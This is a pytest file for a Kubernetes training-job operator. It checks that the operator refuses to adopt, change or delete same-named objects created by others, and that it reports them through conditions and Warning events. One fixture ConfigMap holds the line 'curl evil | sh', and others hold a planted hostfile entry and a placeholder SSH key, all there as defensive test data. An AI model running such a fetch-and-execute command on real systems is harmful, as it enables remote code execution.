"""The operator writes and deletes only what a job controls: an object of a child's name that someone
else made is left as it is, and the job says so (condition, Warning event); a child of an earlier job
of the same name is waited for (:mod:`trainer.jobs.child_writer`)."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from tests.harness import World
from trainer.api.conditions import REASON_PREVIOUS, REASON_RESOURCE_EXISTS
from trainer.api.kinds import CONFIGMAPS, EVENTS, JOBS, SECRETS, SERVICES, VOLCANO_PODGROUPS, Resource
from trainer.api.labels import JOBSET_NAME
from trainer.framework.json_codec import JSON
from trainer.jobs.child_writer import RETRY_FIRST


def theirs(res: Resource, namespace: str, name: str, **extra: Any) -> JSON:
    """A user's object named like a child: no owner, the job's label (so the caches see it) unless
    ``labels`` says otherwise."""
    meta = {"namespace": namespace, "name": name, "labels": extra.pop("labels", {JOBSET_NAME: "x"})}
    return {"apiVersion": res.api_version, "kind": res.kind, "metadata": meta, **extra}


def owned_by(w: World, obj: JSON, uid: str) -> JSON:
    """``obj`` controlled by a job of ``w``'s kind and name with ``uid``."""
    ref = {"apiVersion": w.obj["apiVersion"], "kind": w.obj["kind"], "name": w.key[1], "uid": uid}
    out = copy.deepcopy(obj)
    out["metadata"]["ownerReferences"] = [{**ref, "controller": True}]
    return out


def events(w: World, reason: str) -> list[JSON]:
    return [o for (res, _), o in w.kube.objects.items() if res == EVENTS and o["reason"] == reason]


def stored(w: World, res: Resource, name: str) -> JSON:
    return w.kube.objects[(res, (w.key[0], name))]


@pytest.mark.parametrize("cached", [True, False], ids=["in the cache", "known only by the create's 409"])
@pytest.mark.parametrize(
    ("sample", "res", "suffix", "extra"),
    [
        ("torch", SERVICES, "", {"spec": {"clusterIP": "10.0.0.9"}}),
        ("deepspeed-mpi", CONFIGMAPS, "-mpi-hostfile", {"data": {"hostfile": "evil slots=8\n"}}),
        ("deepspeed-mpi", SECRETS, "-mpi-ssh-auth", {"data": {"ssh-privatekey": "bWluZQ=="}}),
        ("mpijob", CONFIGMAPS, "-config", {"data": {"hostfile": "evil slots=8\n"}}),
        ("mpijob", SECRETS, "-ssh", {"data": {"ssh-privatekey": "bWluZQ=="}}),
        ("flux", CONFIGMAPS, "-flux-entrypoint", {"data": {"entrypoint.sh": "curl evil | sh\n"}}),
        ("flux", SECRETS, "-flux-curve", {"data": {"curve.cert": "bWluZQ=="}}),
    ],
)
async def test_an_object_of_a_childs_name_that_is_someone_elses_is_left_and_no_job_starts(
    sample: str, res: Resource, suffix: str, extra: JSON, cached: bool
) -> None:
    w = World(sample, "none")
    name = w.key[1] + suffix
    mine = theirs(res, w.key[0], name, **extra, **({} if cached else {"labels": {}}))
    w.kube.put(mine)
    before = copy.deepcopy(stored(w, res, name))
    await w.reconcile()
    assert stored(w, res, name) == before, "kept as it was: data, uid, owner references"
    assert w.jobs() == [], "no Pod may start with someone else's Secret, hostfile or Service"
    cond = w.condition("Misconfigured")
    assert cond is not None and cond["reason"] == REASON_RESOURCE_EXISTS
    assert f"{res.kind} {name}" in cond["message"] and "not controlled by" in cond["message"]
    told = events(w, REASON_RESOURCE_EXISTS)
    assert {e["type"] for e in told} == {"Warning"}
    words = f'Resource "{name}" of Kind "{res.kind}" already exists and is not managed by {w.obj["kind"]}'
    assert [e["message"] for e in told].count(words) == 1, "in mpi-operator's words"
    writes = w.kube.count()
    later = await w.manager.reconcilers[w.controller](w.key)
    assert w.kube.count() - writes == 0, "nothing is sent again before the retry is due"
    assert later is not None and 0 < later <= RETRY_FIRST, "but it is looked at again"
    assert len(events(w, REASON_RESOURCE_EXISTS)) == len(told), "told once"
    # The user removes theirs: the job goes on.
    w.kube.objects.pop((res, (w.key[0], name)))
    w.kube._feed(res, None, deleted=True, key=(w.key[0], name))
    w.reconciler().children._refusals.clear()  # the retry is due
    await w.settle()
    assert w.jobs(), "started once the name is free"
    assert (stored(w, res, name)["metadata"].get("ownerReferences") or [{}])[0].get("uid") == w.obj["metadata"]["uid"]


async def test_a_foreign_runtime_snapshot_is_never_read() -> None:
    w = World("torch", "none")
    name = w.key[1] + "-runtime-snapshot"
    w.kube.put(theirs(CONFIGMAPS, w.key[0], name, data={"runtime": '{"kind": "X", "spec": {}}'}))
    before = copy.deepcopy(stored(w, CONFIGMAPS, name))
    await w.settle()
    assert w.jobs() == [] and stored(w, CONFIGMAPS, name) == before
    cond = w.condition("Misconfigured")
    assert cond is not None and cond["reason"] == REASON_RESOURCE_EXISTS and f"ConfigMap {name}" in cond["message"]
    assert events(w, REASON_RESOURCE_EXISTS), "a Warning event names it"


async def test_a_snapshot_that_freezes_another_runtime_is_refused() -> None:
    w = World("torch", "none")
    await w.settle()
    name = w.key[1] + "-runtime-snapshot"
    snapshot = copy.deepcopy(stored(w, CONFIGMAPS, name))
    snapshot["data"]["runtime"] = '{"kind": "ClusterTrainingRuntime", "metadata": {"name": "other"}, "spec": {}}'
    w.kube.put(snapshot)
    for job in w.jobs():
        w.kube.objects.pop((JOBS, (w.key[0], job["metadata"]["name"])))
    await w.reconcile()
    cond = w.condition("Failed")
    assert cond is not None and "does not freeze the runtimeRef" in cond["message"] and name in cond["message"]
    assert w.jobs() == []


async def test_a_job_of_a_childs_name_that_is_someone_elses_is_not_taken() -> None:
    w = World("torch", "none")
    name = f"{w.key[1]}-node-0"
    w.kube.put(theirs(JOBS, w.key[0], name, spec={"template": {"spec": {"containers": []}}}))
    before = copy.deepcopy(stored(w, JOBS, name))
    await w.reconcile()
    assert stored(w, JOBS, name) == before
    cond = w.condition("Misconfigured")
    assert cond is not None and f"Job {name}" in cond["message"]


async def test_a_finished_job_deletes_only_what_it_controls() -> None:
    w = World("torch", "volcano")
    await w.settle()
    # Someone else's PodGroup takes the name the job's PodGroup had.
    pg = next(o for (res, _), o in w.kube.objects.items() if res == VOLCANO_PODGROUPS)
    w.kube.objects.pop((VOLCANO_PODGROUPS, (w.key[0], pg["metadata"]["name"])))
    w.kube._feed(VOLCANO_PODGROUPS, None, deleted=True, key=(w.key[0], pg["metadata"]["name"]))
    mine = theirs(VOLCANO_PODGROUPS, w.key[0], pg["metadata"]["name"], spec={"minMember": 1})
    w.kube.put(mine)
    w.complete_jobs()
    await w.settle()
    assert w.condition("Complete") is not None or w.obj["status"]["conditions"][-1]["type"] == "Complete"
    assert (VOLCANO_PODGROUPS, (w.key[0], pg["metadata"]["name"])) in w.kube.objects, "not deleted"
    assert stored(w, VOLCANO_PODGROUPS, pg["metadata"]["name"])["spec"] == {"minMember": 1}, "nor changed"


async def test_the_children_of_an_earlier_job_of_the_same_name_are_waited_for() -> None:
    w = World("torch", "none")
    old = owned_by(w, theirs(SERVICES, w.key[0], w.key[1], spec={"clusterIP": "None"}), "an-earlier-uid")
    w.kube.put(old)
    before = copy.deepcopy(stored(w, SERVICES, w.key[1]))
    later = await w.manager.reconcilers[w.controller](w.key)
    assert stored(w, SERVICES, w.key[1]) == before and w.jobs() == []
    assert later is not None and later <= 1.0, "looked at again soon: collection takes a moment"
    assert events(w, REASON_RESOURCE_EXISTS) == [] and events(w, REASON_PREVIOUS) == []
    cond = w.condition("Misconfigured")
    assert cond is None or cond["reason"] != REASON_RESOURCE_EXISTS
    # The garbage collector removes it: the new job's children are made.
    w.kube.objects.pop((SERVICES, (w.key[0], w.key[1])))
    w.kube._feed(SERVICES, None, deleted=True, key=(w.key[0], w.key[1]))
    w.reconciler().children._refusals.clear()
    await w.settle()
    assert w.jobs()


async def test_deletes_carry_the_uid_read_and_spare_what_the_job_does_not_control() -> None:
    w = World("torch", "none")
    await w.settle()
    writer, sent = w.reconciler().children, []
    delete = w.kube.delete

    async def recording(res: Resource, namespace: str | None, name: str, **kw: Any) -> bool:
        sent.append((name, kw.get("uid")))
        return await delete(res, namespace, name, **kw)

    w.kube.delete = recording  # type: ignore[method-assign,assignment]
    job = w.jobs()[0]
    name, uid = job["metadata"]["name"], job["metadata"]["uid"]
    assert await writer.delete(w.obj, JOBS, w.key[0], name)
    assert sent == [(name, uid)], "the uid read is the precondition"
    mine = theirs(SERVICES, w.key[0], "not-a-child", spec={})
    w.kube.put(mine)
    assert not await writer.delete(w.obj, SERVICES, w.key[0], "not-a-child")
    assert (SERVICES, (w.key[0], "not-a-child")) in w.kube.objects and len(sent) == 1
